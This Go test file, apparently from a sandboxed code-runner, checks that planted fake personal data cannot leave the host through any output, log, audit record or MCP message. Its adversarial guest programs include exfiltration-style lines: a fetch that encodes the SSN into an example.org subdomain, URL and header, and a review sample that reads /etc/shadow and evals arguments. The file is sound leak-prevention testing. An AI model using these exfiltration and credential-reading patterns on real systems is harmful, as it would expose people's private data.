package attack

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/wexec/wexec/audit"
	"github.com/wexec/wexec/catalogue"
	"github.com/wexec/wexec/cmd/wexec/mcpd"
	"github.com/wexec/wexec/engine"
	"github.com/wexec/wexec/fault"
	"github.com/wexec/wexec/hostfns"
	"github.com/wexec/wexec/hostfns/fetch"
	"github.com/wexec/wexec/hostfns/files"
	"github.com/wexec/wexec/internal/tools/testenv"
	"github.com/wexec/wexec/policy"
)

// personal is personal data of several kinds, which may not leave the host.
var personal = map[string]string{
	"ssn":        "536-22-8731",
	"email":      "ada.byron@mail.example.org",
	"iban":       "DE89 3704 0044 0532 0130 00",
	"card":       "4556 7375 8689 9855",
	"phone":      "+1 512 867 5309",
	"name":       "Augusta Kingsworth",
	"birth_date": "1985-12-10",
	"password":   "kV7#pQ2!zR9wTx",
}

// outlets has a row for each string of a type that leaves the host: "program" if a
// program or a tool can put text there, and "host" if the host alone makes it.
// Every program's row must be reached by a run of the test.
var outlets = map[string]string{
	"Result.run_id": "host", "Result.status": "host", "Result.value": "program", "Result.stdout": "program", "Result.stderr": "program",
	"Result.error.code": "host", "Result.error.class": "host", "Result.error.message": "program", "Result.error.hint": "program",
	"Result.error.name": "program", "Result.error.tool": "program", "Result.error.rule": "program", "Result.error.file": "program",
	"Result.error.excerpt": "program", "Result.error.stack": "program",
	"Result.calls.tool": "program", "Result.calls.decision": "host", "Result.calls.rule": "host", "Result.calls.code": "host",
	"Result.privacy.mode": "host", "Result.privacy.counts": "host",
	"Result.provenance.code_sha256": "host", "Result.provenance.args_sha256": "host", "Result.provenance.value_sha256": "host",
	"Result.provenance.policy_sha256": "host", "Result.provenance.guest_sha256": "host", "Result.provenance.tools": "program",
	"Result.provenance.audit_head": "host", "Result.cache": "host", "Result.usage.cost.currency": "host", "Result.usage.cost.model": "host",
	"Result.workspace.id": "host",
	"Result.waiting.id":   "host", "Result.waiting.tool": "host", "Result.waiting.message": "host", // of Question
	"Result.parked.signals": "program",
	"Result.review.level":   "host", "Result.review.findings.rule": "host", "Result.review.findings.level": "host",
	"Result.review.findings.message": "program", "Result.review.findings.mitigation": "host",
	"Result.review.capabilities.tools": "program", "Result.review.capabilities.hosts": "program", "Result.review.capabilities.files": "program",
	"Result.review.capabilities.skills": "program", "Result.review.capabilities.unresolved": "program",

	"Progress.type": "host", "Progress.run": "host", "Progress.text": "program", "Progress.stream": "host",
	"Progress.call.tool": "program", "Progress.call.decision": "host", "Progress.call.rule": "host", "Progress.call.code": "host",

	"Record.run": "host", "Record.type": "host", "Record.prev": "host", "Record.hash": "host",
	"Record.start.version": "host", "Record.start.language": "host", "Record.start.file": "host", "Record.start.plugin": "host",
	"Record.start.function": "host", "Record.start.code_sha256": "host", "Record.start.code": "program", "Record.start.args_sha256": "host",
	"Record.start.args": "program", "Record.start.argv": "host", "Record.start.input_sha256": "host", "Record.start.input": "host",
	"Record.start.env": "host", "Record.start.intent": "program", "Record.start.trigger": "host", "Record.start.actor.id": "host",
	"Record.start.actor.type": "host", "Record.start.session": "host", "Record.start.seed": "host", "Record.start.servers": "host",
	"Record.start.review.level": "host", "Record.start.review.rules": "host", "Record.start.review.tools": "program", "Record.start.review.capabilities_sha256": "host",
	"Record.start.offers": "host", "Record.start.guest_sha256": "host", "Record.start.policy_sha256": "host",
	"Record.start.catalogue_sha256": "host", "Record.start.keep.code": "host", "Record.start.keep.inputs": "host", "Record.start.keep.outputs": "host",
	"Record.decision.kind": "host", "Record.decision.tool": "program", "Record.decision.target": "program", "Record.decision.effect": "host",
	"Record.decision.rule": "host", "Record.decision.code": "host", "Record.decision.message": "program", "Record.decision.args_sha256": "host",
	"Record.decision.args": "program", "Record.decision.approval.id": "host", "Record.decision.approval.via": "host",
	"Record.decision.approval.by": "host", "Record.decision.approval.answer": "host", "Record.decision.warnings": "program",
	"Record.call.tool": "program", "Record.call.code": "host", "Record.call.message": "program", "Record.call.answer_sha256": "host",
	"Record.call.answer": "program", "Record.call.args": "program",
	"Record.privacy.tool": "host", "Record.privacy.where": "host", "Record.privacy.mode": "host", "Record.privacy.counts": "host", "Record.privacy.fields": "program",
	"Record.anchor.error": "host", "Record.detail": "host",
	"Record.deletion.id": "host", "Record.deletion.of": "host", "Record.deletion.by": "host", "Record.deletion.removed": "host",
	"Record.end.status": "host", "Record.end.code": "host", "Record.end.message": "program", "Record.end.value_sha256": "host",
	"Record.end.value": "program", "Record.end.stdout_sha256": "host", "Record.end.stdout": "program", "Record.end.stderr_sha256": "host",
	"Record.end.stderr": "program", "Record.end.cache": "host", "Record.end.tools": "program", "Record.end.found": "host",
	"Record.end.saw.input": "host", "Record.end.saw.looks.op": "host", "Record.end.saw.looks.path": "host",
	"Record.end.saw.looks.to": "host", "Record.end.saw.looks.text": "host", "Record.end.saw.looks.names.name": "host",
	"Record.end.saw.looks.sha256": "host", "Record.end.saw.looks.parts.data": "host", "Record.end.saw.lost": "host",

	"Question.id": "host", "Question.run": "host", "Question.tool": "host", "Question.message": "program", "Question.rule": "host",
	"Question.decisive": "host", "Question.actor": "host", "Question.intent": "program", "Question.args": "program", "Question.via": "host", "Question.grant.kind": "host", "Question.grant.name": "program", "Question.grant.files": "host", "Question.remember": "host",

	// What leaves through MCP is read from the wire as a whole.
	"MCP": "program", "Log": "program", "View": "program",
}

// outletTypes are the types that leave the host.
var outletTypes = map[string]reflect.Type{
	"Result": reflect.TypeFor[engine.Result](), "Progress": reflect.TypeFor[engine.Event](), "Record": reflect.TypeFor[audit.Event](),
	"Question": reflect.TypeFor[hostfns.Question](),
}

// TestEveryStringThatLeavesHasARow compares the rows with the types.
func TestEveryStringThatLeavesHasARow(t *testing.T) {
	found := map[string]bool{"MCP": true, "Log": true, "View": true}
	for name, typ := range outletTypes {
		eachField(name, typ, func(path string) { found[path] = true })
	}
	for path := range found {
		if outlets[path] == "" {
			t.Errorf("%s has no row in outlets: add one, and a program that writes there", path)
		}
	}
	for path := range outlets {
		if !found[path] {
			t.Errorf("%s is in outlets and in no type", path)
		}
	}
}

// eachField visits the paths of strings in a type.
func eachField(path string, t reflect.Type, visit func(string)) {
	switch {
	case t == reflect.TypeFor[time.Time]():
	case t.Kind() == reflect.String, t.Kind() == reflect.Interface, t.Kind() == reflect.Map, t.Kind() == reflect.Slice && t.Elem().Kind() == reflect.Uint8:
		visit(path)
	case t.Kind() == reflect.Pointer, t.Kind() == reflect.Slice:
		eachField(path, t.Elem(), visit)
	case t.Kind() == reflect.Struct:
		for i := range t.NumField() {
			f := t.Field(i)
			name, _, _ := strings.Cut(f.Tag.Get("json"), ",")
			if f.IsExported() && name != "-" {
				eachField(path+"."+name, f.Type, visit)
			}
		}
	}
}

// eachString visits the strings in a value.
func eachString(path string, v reflect.Value, visit func(path, text string)) {
	switch v.Kind() {
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			eachString(path, v.Elem(), visit)
		}
	case reflect.String:
		visit(path, v.String())
	case reflect.Map:
		for _, key := range v.MapKeys() {
			visit(path, fmt.Sprint(key))
		}
	case reflect.Slice:
		if v.Type().Elem().Kind() == reflect.Uint8 {
			visit(path, string(v.Bytes()))
			return
		}
		for i := range v.Len() {
			eachString(path, v.Index(i), visit)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			f := v.Type().Field(i)
			name, _, _ := strings.Cut(f.Tag.Get("json"), ",")
			if f.IsExported() && name != "-" && f.Type != reflect.TypeFor[time.Time]() {
				eachString(path+"."+name, v.Field(i), visit)
			}
		}
	}
}

// customs is a watch at every outlet.
type customs struct {
	t       *testing.T
	mu      sync.Mutex
	reached map[string]bool
}

// pass checks what leaves at an outlet.
func (c *customs) pass(how, path, text string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if text != "" && text != "null" && text != "{}" {
		c.reached[path] = true
	}
	if kind, part := leaked(text); kind != "" {
		at := max(strings.Index(strings.ToLower(text), part)-60, 0)
		c.t.Errorf("%s: %s has %q of the %s: …%.200s", how, path, part, kind, text[at:])
	}
}

func (c *customs) all(how, name string, v any) {
	eachString(name, reflect.ValueOf(v), func(path, text string) { c.pass(how, path, text) })
}

// leaked returns the kind of personal data in a text, and the part of it that is
// there: more than half of a value, as it is, or in hexadecimal, base64 or percent
// encoding.
func leaked(text string) (kind, part string) {
	texts := []string{strings.ToLower(text), strings.ToLower(strings.ReplaceAll(text, "%20", " "))}
	if plain, err := url.QueryUnescape(text); err == nil {
		texts = append(texts, strings.ToLower(plain))
	}
	for kind, value := range personal {
		for _, v := range []string{value, strings.ReplaceAll(value, " ", ""), strings.ReplaceAll(value, "-", "")} {
			n := max(7, len(v)*6/10)
			for i := 0; i+n <= len(v); i++ {
				w := v[i : i+n]
				for _, t := range texts {
					if w = strings.ToLower(w); strings.Contains(t, w) {
						return kind, w
					}
				}
				if w = hex.EncodeToString([]byte(v[i : i+n])); strings.Contains(texts[0], w) {
					return kind, w
				}
			}
			for before := range 3 {
				whole := base64.RawStdEncoding.EncodeToString([]byte("xx"[:before] + v))
				if w := whole[(8*before+5)/6 : len(whole)-1]; strings.Contains(text, w) {
					return kind, w
				}
			}
		}
	}
	return "", ""
}

// clerk is a server whose tools have personal data and may see it.
type clerk struct {
	custom *customs
	how    string
}

func (k *clerk) Servers() []string         { return []string{"crm"} }
func (k *clerk) Watch(func(string)) func() { return func() {} }
func (k *clerk) Close() error              { return nil }
func (k *clerk) Tools(context.Context, string) ([]catalogue.Tool, error) {
	var out []catalogue.Tool
	for _, name := range []string{"all", "echo", "join", "fail", "panic", "steps", "odd", "slow", "see", "ask", "deny", "failing", "label"} {
		tool := catalogue.Tool{Server: "crm", Name: name, InputSchema: json.RawMessage(`{"type":"object"}`)}
		switch name {
		case "odd":
			tool.OutputSchema = json.RawMessage(`{"type":"object","additionalProperties":{"type":"integer"}}`)
		case "label":
			tool.InputSchema = json.RawMessage(`{"type":"object","properties":{"labels":{"type":"object","additionalProperties":{"type":"string","maxLength":2}}}}`)
		}
		out = append(out, tool)
	}
	return out, nil
}

func (k *clerk) Call(ctx context.Context, c hostfns.Call) (hostfns.Answer, error) {
	var in struct {
		Text  string
		Parts []string
		Pad   int
		As    string
	}
	_ = json.Unmarshal(c.Args, &in)
	padded := strings.Repeat("x", max(in.Pad-1, 0)) + " " + in.Text
	switch c.Tool {
	case "all":
		data, err := json.Marshal([]any{personal})
		return hostfns.Answer{Data: data}, err
	case "see":
		k.custom.pass(k.how, "View", string(c.Args))
	case "echo":
		return echoed(in.Text, in.As)
	case "join":
		data, err := json.Marshal(map[string]string{"joined": strings.Join(in.Parts, "")})
		return hostfns.Answer{Data: data}, err
	case "fail":
		return hostfns.Answer{}, fault.New(fault.ToolFailed, "%s", padded).WithHint("%s", padded)
	case "panic":
		panic("cannot serve " + padded)
	case "steps":
		c.Progress(1, 2, padded)
		time.Sleep(20 * time.Millisecond)
	case "odd":
		data, err := json.Marshal(map[string]string{in.Text: in.Text})
		return hostfns.Answer{Data: data}, err
	case "slow":
		<-ctx.Done()
		return hostfns.Answer{}, fmt.Errorf("interrupted with %s: %w", in.Text, ctx.Err())
	}
	return hostfns.Answer{Data: []byte(`"done"`)}, nil
}

func echoed(text, as string) (hostfns.Answer, error) {
	switch as {
	case "text":
		return hostfns.Answer{Kind: hostfns.Text, Data: []byte("It was " + text + ", he said")}, nil
	case "glued":
		return hostfns.Answer{Kind: hostfns.Text, Data: []byte("z" + text + "z")}, nil
	case "content":
		data, err := json.Marshal([]any{map[string]string{"type": "text", "text": text}})
		return hostfns.Answer{Kind: hostfns.Content, Data: data}, err
	case "base64":
		text = base64.StdEncoding.EncodeToString([]byte("value: " + text + " and more"))
	case "hex":
		text = hex.EncodeToString([]byte("value: " + text + " and more"))
	case "percent":
		text = url.QueryEscape("value: " + text + " and more")
	case "url":
		text = "https://example.org/find?q=" + url.QueryEscape(text) + "&x=1"
	case "path":
		text = "/home/users/" + text + "/file.txt"
	}
	data, err := json.Marshal(map[string]any{"said": text, text: 1})
	return hostfns.Answer{Data: data}, err
}

// registry is the policy of the test: only some tools may see values.
const registry = `version: 1
tools:
  deny: [{tool: crm.deny, messageExpression: '"not with " + args.text'}]
  ask: [{tool: crm.ask, messageExpression: '"may it have " + args.text'}]
  allow:
    - {tool: crm.failing, when: 'timestamp(args.text) > timestamp("2020-01-01T00:00:00Z")'}
    - {tool: crm.slow, limits: {timeout: 50ms}}
    - "crm.*"
pii:
  mode: tokenize
  detect: []
  reveal_to: [crm.echo, crm.join, crm.fail, crm.panic, crm.steps, crm.odd, crm.slow, crm.label, crm.ask]
files: {read: ["$DIR/**"]}
network: {allow: [api.example.org]}
audit: {code: full, inputs: full, outputs: full}
approvals: {via: [terminal, mcp]}
`

// cuts are the lengths at which texts are shortened, minus a part of a value.
var cuts = []int{0, 80 - 4, 200 - 4, 300 - 4, 500 - 4, 500 - 12, 800 - 4, 1000 - 4, 2000 - 4, 4000 - 4, 4096 - 4, 8<<10 - 4, 8<<10 - 12, 16<<10 - 4, 16<<10 - 12}

// spills are programs that put personal data at every outlet that they reach. $P is
// the record with tokens, $T all its texts in one.
var spills = []program{
	{"answers", "javascript", `
for (const as of ["json", "text", "glued", "content", "base64", "hex", "percent", "url", "path"])
  for (const text of Object.values(p)) out.push(as + " " + JSON.stringify(await tools.crm.echo({ text, as })));
for (const text of Object.values(p)) {
  out.push(await tools.crm.join({ parts: [text.slice(0, 3), text.slice(3)] }));
  out.push(await tools.crm.join({ parts: ["value ", text, " and ", text, "."] }));
  try { out.push(await tools.crm.odd({ text })); } catch (e) { out.push(e.message); }
}
await tools.crm.see({ out });
console.log(out.map((o) => JSON.stringify(o)).join("\n")); console.error(all);
progress?.(1, 2, all);
return out;`},
	{"errors", "javascript", `
for (const text of Object.values(p)) for (const pad of args.cuts)
  for (const tool of ["fail", "steps", "deny", "failing", "slow", "label", "panic"])
    try { if (pad === 0 || tool === "fail" || tool === "steps") await tools.crm[tool]({ text, pad, labels: { ["z" + text + "z"]: "long", ok: text } }); }
    catch (e) { out.push(e.message, e.hint ?? "", e.stack ?? ""); }
await tools.crm.see({ out });
return out;`},
	{"asked", "javascript", `
for (const text of [...Object.values(p), "z" + all + "z"]) try { await tools.crm.ask({ text }); } catch (e) { out.push(e.message); }
try { await tools.crm[all]({}); } catch (e) { out.push(e.message); }
try { await tools[all].x({}); } catch (e) { out.push(e.message); }
try { await fetch("https://" + p.ssn.replace(/[^A-Z0-9]/g, "") + ".example.org/" + encodeURIComponent(all), { headers: { "x-a": all } }); } catch (e) { out.push(e.message); }
await tools.crm.see({ out });
return out;`},
	{"files", "javascript", `
const fs = await import("fs/promises");
const found = await fs.readdir(args.dir);
out.push(found);
for (const name of found) try { out.push(await fs.readFile(args.dir + "/" + name, "utf8")); } catch (e) { out.push(e.message); }
for (const name of found) try { out.push(await fs.writeFile(args.dir + "/" + name, "x")); } catch (e) { out.push(e.message); }
return out;`},
	{"thrown", "javascript", `
const e = new Error("x".repeat(16 << 10) + args.tail); throw e;`},
	{"thrown with fields", "javascript", `
const text = (await tools.crm.join({ parts: [p.ssn] })).joined;
class Odd extends Error {}
const e = Object.assign(new ToolError(args.plain), { name: args.plain, code: "tool.failed", tool: args.plain, rule: args.plain, hint: args.plain });
throw e;`},
	{"rethrown", "javascript", `await tools.crm.fail({ text: all, pad: 10 });`},
	{"refused", "javascript", `await tools.crm.deny({ text: all });`},
	{"invalid", "typescript", "const x: string = `${args}`;\nreturn x +* 1;"},
	{"python", "python", `
from tools import crm
import sys
for text in p.values():
    try:
        crm.fail(text=text, pad=2000)
    except ToolError as e:
        out.append(str(e)); out.append(repr(e))
crm.see(out=out)
print(out)
print(all, file=sys.stderr)
crm.fail(text=all, pad=5)`},
	{"python traceback", "python", `
raise ValueError("x" * 16380 + " " + args["tail"])`},
}

// lead gives a program the record with tokens.
var lead = map[string]string{
	"javascript": "const p = (await tools.crm.all({}))[0], all = Object.values(p).join(\" \"), out = [], progress = globalThis.progress;\n",
	"python":     "from tools import crm\np = crm.all()[0]\nall = \" \".join(p.values())\nout = []\n",
}

// TestNoValueLeavesTheHost runs programs with personal data of every kind in every
// awkward form, and searches every string that leaves.
func TestNoValueLeavesTheHost(t *testing.T) {
	c := &customs{t: t, reached: map[string]bool{}}
	dir := filepath.Join(t.TempDir(), "files")
	if err := errors.Join(os.Mkdir(dir, 0o700), os.WriteFile(filepath.Join(dir, personal["ssn"]+".txt"), []byte(personal["email"]), 0o600)); err != nil {
		t.Fatal(err)
	}
	var log safeBuffer
	logger := slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug}))
	p, err := policy.Parse("policy.yaml", []byte(strings.ReplaceAll(registry, "$DIR", filepath.ToSlash(dir))))
	if err != nil {
		t.Fatal(err)
	}
	k, sink := &clerk{custom: c}, &audit.Memory{}
	table, err := hostfns.NewTable(p, sink, k, fetch.New(fetch.Options{}), files.New())
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = table.Close() }()
	table.With(hostfns.Options{Logger: logger, Asker: questioned{c}})
	eng, err := engine.New(t.Context(), engine.Config{Cache: testenv.Cache(), Table: table, Logger: logger})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = eng.Close() }()
	// A program may hold a value that no tool gave it as one: what it writes is
	// searched too. It does not come with the request, since a caller may see its
	// own words again.
	plain := strings.Join([]string{personal["ssn"], personal["email"]}, " ")
	args, err := json.Marshal(map[string]any{"cuts": cuts, "dir": dir})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range spills {
		k.how = s.name
		code := strings.NewReplacer("args.plain", pieces(plain), "args.tail", pieces(" "+plain), `args["tail"]`, pieces(" "+plain)).Replace(s.code)
		res, _ := eng.Run(t.Context(), engine.Request{Language: s.language, Code: lead[s.language] + code, Args: args, Intent: "work for " + personal["email"],
			Progress: func(e engine.Event) { c.all(s.name, "Progress", e) }, Trigger: "api", Limits: engine.Limits{ToolCalls: 5000, Time: time.Minute, Output: 64 << 20}})
		t.Logf("%s: %s %.200v", s.name, res.Status, res.Error)
		c.all(s.name, "Result", res)
	}
	res, _ := eng.Run(t.Context(), engine.Request{Language: "javascript", Code: "await waitFor('go')", Journal: noJournal{}, Signals: noSignals{}, ParkAfter: time.Millisecond})
	c.all("a run that parks", "Result", res)
	reviewed, err := policy.Parse("policy.yaml", []byte(strings.ReplaceAll(registry, "$DIR", filepath.ToSlash(dir))+"\nrisk: {high: {limits: {memory: 100MiB}}}\n"))
	if err != nil {
		t.Fatal(err)
	}
	risky, err := hostfns.NewTable(reviewed, sink, k, fetch.New(fetch.Options{}), files.New())
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = risky.Close() }()
	res, _ = eng.Run(t.Context(), engine.Request{Language: "javascript", Code: reviewedProgram, Table: risky})
	c.all("a reviewed run", "Result", res)
	for _, e := range sink.Events() {
		if e.End != nil {
			e.End.World = nil // the files that a program read are in a full record, as documented
		}
		c.all("record of "+e.Run, "Record", e)
	}
	c.overMCP(eng, table, logger, pieces(plain))
	c.pass("log", "Log", log.String())
	for path, who := range outlets {
		if who == "program" && !c.reached[path] {
			t.Errorf("no program reaches %s", path)
		}
	}
}

// pieces is an expression of a program for a text that does not have it as one.
func pieces(s string) string {
	var parts []string
	for i := 0; i < len(s); i += 3 {
		parts = append(parts, fmt.Sprintf("%q", s[i:min(i+3, len(s))]))
	}
	return "(" + strings.Join(parts, " + ") + ")"
}

// overMCP runs programs for a client, and searches everything on the wire.
func (c *customs) overMCP(eng *engine.Engine, table *hostfns.Table, logger *slog.Logger, plain string) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	var wire safeBuffer
	here, bare := mcp.NewInMemoryTransports()
	server := mcpd.New(mcpd.Options{Engine: eng, Table: table, Logger: logger, Version: "test"})
	go func() { _ = server.Serve(ctx, &mcp.LoggingTransport{Transport: bare, Writer: &wire}) }()
	client := mcp.NewClient(&mcp.Implementation{Name: "tester", Version: "1"}, &mcp.ClientOptions{
		ElicitationHandler: func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"answer": "no"}}, nil
		}})
	session, err := client.Connect(ctx, here, nil)
	if err != nil {
		c.t.Fatal(err)
	}
	defer func() { _ = session.Close() }()
	for _, code := range []string{
		"for (const text of Object.values(p)) await tools.crm.steps({ text });\nawait tools.crm.ask({ text: all });",
		"console.log(all); return Array(2000).fill(await tools.crm.echo({ text: all, as: 'text' }));",
		"throw new Error(" + plain + ")", "console.error(" + plain + "); await tools.crm.fail({ text: all, pad: 8180 });",
	} {
		params := &mcp.CallToolParams{Name: "execute_code", Arguments: map[string]any{"language": "javascript", "code": lead["javascript"] + code}}
		params.SetProgressToken("p")
		if _, err := session.CallTool(ctx, params); err != nil {
			c.t.Errorf("%s: %v", code, err)
		}
	}
	for name, args := range map[string]any{"search_tools": map[string]any{"query": "join"}, "describe_tools": map[string]any{"names": []string{"crm.join", "crm.odd"}}} {
		if _, err := session.CallTool(ctx, &mcp.CallToolParams{Name: name, Arguments: args}); err != nil {
			c.t.Errorf("%s: %v", name, err)
		}
	}
	if !strings.Contains(wire.String(), "elicitation/create") || !strings.Contains(wire.String(), "notifications/progress") {
		c.t.Error("the client was not asked, or got no progress")
	}
	for line := range strings.Lines(wire.String()) {
		c.pass("MCP", "MCP", line)
	}
}

// questioned is a client to which questions go, with tokens.
type questioned struct{ c *customs }

func (q questioned) Ask(_ context.Context, question hostfns.Question) (hostfns.Reply, error) {
	q.c.all("question", "Question", question.Covered())
	return hostfns.Reply{Approved: question.Grant == nil, By: "mcp"}, nil
}

// CanGrant makes what no rule allows a question.
func (questioned) CanGrant() bool { return true }

// safeBuffer is a buffer for several goroutines.
type safeBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (b *safeBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.Write(p)
}

func (b *safeBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.String()
}

// reviewedProgram has something for each part of a review.
const reviewedProgram = `import fs from "fs";
import "/skills/lookup.ts";
async function later() {
  await tools.crm.all({});
  await tools[args.x]({});
  await fetch("https://web.example/?q=1");
  fs.readFileSync("/etc/shadow");
  eval("tools.crm.all({})");
  eval(args.y);
}
return 1`

// noJournal keeps nothing.
type noJournal struct{}

func (noJournal) Append(context.Context, []byte) error { return nil }

// noSignals has no signal.
type noSignals struct{}

func (noSignals) Await(ctx context.Context, _, _ string, _ int) (json.RawMessage, error) {
	<-ctx.Done()
	return nil, context.Cause(ctx)
}
